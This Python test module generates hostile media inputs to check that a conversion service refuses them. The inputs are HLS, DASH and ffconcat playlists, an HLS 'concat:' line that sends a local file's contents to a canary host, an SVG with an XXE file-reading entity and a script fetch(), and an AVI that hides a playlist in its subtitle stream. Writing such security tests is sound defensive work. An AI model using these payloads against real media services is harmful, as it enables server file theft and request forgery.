"""Playlists, drawings and films that name other files and hosts, under names that hide what they are."""

import struct
from collections.abc import Callable, Iterator
from typing import Final

from tests.hostile.corpus.films import box
from tests.hostile.hostile import COMPLETED, Hostile, Outcome, Stage, TaskType, failed, refused

_TURNED_AWAY: Final = refused("type_mismatch", "unsupported_format")
_NAMES: Final = ("reach.mp4", "reach.m3u8", "reach.mkv", "reach.avi", "reach")


def list_files() -> Iterator[Hostile]:
    for kind, write in PLAYLISTS.items():
        for name in _NAMES:
            yield _reach(f"{kind} as {name}", name, "video", _TURNED_AWAY, write)
        # A playlist is a text, and as a document it is shown as one: its own words, nothing of what they name.
        yield _reach(f"{kind} as a document", "reach.txt", "document", COMPLETED | _TURNED_AWAY, write)
    for name in ("reach.svg", "reach.png", "reach"):
        yield _reach(f"SVG as {name}", name, "image", _TURNED_AWAY, write_svg)
    yield _reach(
        "SVG with a picture's signature before it",
        "reach.png",
        "image",
        failed("corrupt_file"),
        lambda s: b"\x89PNG\r\n\x1a\n" + write_svg(s),
    )
    yield from _list_films()


def _reach(
    what: str, file_name: str, task_type: TaskType, outcome: Outcome, content: Callable[[Stage], bytes]
) -> Hostile:
    return Hostile(name=f"reaching: {what}", file_name=file_name, task_type=task_type, outcome=outcome, content=content)


# --- playlists ---
def write_hls(stage: Stage) -> bytes:
    """A playlist of HLS whose only segment is another's film."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:1.0,\n{stage.canary_film}\n#EXT-X-ENDLIST\n".encode()


def _write_hls_url(stage: Stage) -> bytes:
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:1.0,\n{stage.canary_url}/segment.ts\n#EXT-X-ENDLIST\n".encode()


def _write_hls_key(stage: Stage) -> bytes:
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="file://{stage.canary_file}",IV=0x0\n'
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n{key}#EXTINF:1.0,\n{stage.canary_film}\n#EXT-X-ENDLIST\n".encode()


def _write_hls_joined(stage: Stage) -> bytes:
    """The words of a file sent to a host as a part of an address."""
    joined = f"concat:{stage.canary_url}/?|file://{stage.canary_file}"
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:1.0,\n{joined}\n#EXT-X-ENDLIST\n".encode()


def _write_dash(stage: Stage) -> bytes:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"'
        ' mediaPresentationDuration="PT1S">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="9">'
        f'<BaseURL>file://{stage.canary_film}</BaseURL><SegmentList><SegmentURL media="{stage.canary_url}/s"/>'
        "</SegmentList></Representation></AdaptationSet></Period></MPD>"
    ).encode()


def _write_concat(stage: Stage) -> bytes:
    return f"ffconcat version 1.0\nfile '{stage.canary_film}'\nfile '{stage.canary_url}/x'\n".encode()


def _write_sdp(stage: Stage) -> bytes:
    host = b"IN IP4 127.0.0.1"
    return b"v=0\no=- 0 0 %s\ns=x\nc=%s\nt=0 0\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n" % (host, host)


PLAYLISTS: Final[dict[str, Callable[[Stage], bytes]]] = {
    "an HLS playlist of another's film": write_hls,
    "an HLS playlist of a host": _write_hls_url,
    "an HLS playlist with another's file for a key": _write_hls_key,
    "an HLS playlist that carries a file to a host": _write_hls_joined,
    "a DASH manifest": _write_dash,
    "a list to be joined": _write_concat,
    "a description of a stream from the network": _write_sdp,
}


def write_svg(stage: Stage) -> bytes:
    """A drawing that shows a file and a host, runs a script and reads an entity."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file://{stage.canary_file}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
        f'<image width="64" height="64" xlink:href="file://{stage.canary_picture}"/>'
        f'<image width="64" height="64" href="{stage.canary_url}/picture.png"/>'
        f'<style>@import url("{stage.canary_url}/style.css");</style><text y="9">&e;</text>'
        f'<script>fetch("{stage.canary_url}")</script></svg>'
    ).encode()


# --- films ---
def _list_films() -> Iterator[Hostile]:
    for name, write in (("another's film", write_hls), ("a host", _write_hls_url)):
        for options in ({}, {"format": "webm"}):
            yield Hostile(
                name=f"reaching: an AVI with subtitles that are a playlist of {name}{', encoded' if options else ''}",
                file_name="subtitles.avi",
                task_type="video",
                outcome=COMPLETED | failed("corrupt_file", "unsupported_format"),
                content=lambda stage, write=write: hide_in_subtitles(write(stage)),  # type: ignore[misc]
                options=options,
            )
    outcome = COMPLETED | failed("corrupt_file", "unsupported_format")
    yield _reach("a QuickTime film whose data lie in another file", "outside.mov", "video", outcome, _refer_outside)
    yield _reach("a QuickTime film that is a reference to another", "reference.mov", "video", outcome, _refer_to_film)
    yield _reach(
        "an MP4 whose first box is a playlist",
        "box.mp4",
        "video",
        outcome,
        lambda s: b"\0\0\0\x18ftypisom\0\0\2\0isommp42" + write_hls(s),
    )
    yield _reach(
        "a Matroska whose chapters name another file",
        "chapters.mkv",
        "video",
        outcome,
        lambda s: s.seed("mkv") + b"\x45\xa3\x88file:///" + str(s.canary_film).encode(),
    )


def hide_in_subtitles(playlist: bytes) -> bytes:
    """Make an AVI whose subtitles (`GAB2`) are a file of their own, which readers open in turn."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) % 2)

    subtitles = (
        b"GAB2\0\2\0"
        + struct.pack("<I", 10)
        + "x.srt".encode("utf-16-le")
        + b"\4\0"
        + struct.pack("<I", len(playlist))
        + playlist
    )
    main = struct.pack("<10I", 40_000, 0, 0, 0x10, 25, 0, 2, 0, 64, 64) + bytes(16)
    video = chunk(b"strh", b"vidsMJPG" + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 25, 0, 0, 0) + bytes(8))
    video += chunk(b"strf", struct.pack("<IiiHHIIiiII", 40, 64, 64, 1, 24, 0x47504A4D, 0, 0, 0, 0, 0))
    text = chunk(b"strh", b"txts\0\0\0\0" + struct.pack("<10I", 0, 0, 0, 1, 25, 0, 25, 0, 0, 0) + bytes(8))
    text += chunk(b"strf", b"")
    header = chunk(
        b"LIST", b"hdrl" + chunk(b"avih", main) + chunk(b"LIST", b"strl" + video) + chunk(b"LIST", b"strl" + text)
    )
    movie = chunk(b"LIST", b"movi" + chunk(b"01tx", subtitles) + chunk(b"00dc", b"\xff\xd8\xff\xd9"))
    body = b"AVI " + header + movie
    return b"RIFF" + struct.pack("<I", len(body)) + body


def _refer_outside(stage: Stage) -> bytes:
    """Say of the film's data that they lie in another file, by a path as QuickTime aliases have it."""
    data = stage.seed("mov")
    path = str(stage.canary_film).encode()
    alias = bytes(150) + struct.pack(">HH", 18, len(path)) + path + b"\0" * (len(path) % 2) + b"\xff\xff\0\0"
    at = data.index(b"alis") if b"alis" in data else data.index(b"url ")
    return data[: at - 4] + box(b"alis", b"\0\0\0\0" + alias) + data[at + 8 :]


def _refer_to_film(stage: Stage) -> bytes:
    path = f"file://{stage.canary_film}".encode() + b"\0"
    reference = box(b"rdrf", bytes(4) + b"url " + struct.pack(">I", len(path)) + path)
    ftyp = b"\0\0\0\x14ftypqt  \0\0\2\0qt  "
    return ftyp + box(b"moov", box(b"rmra", box(b"rmda", reference)))
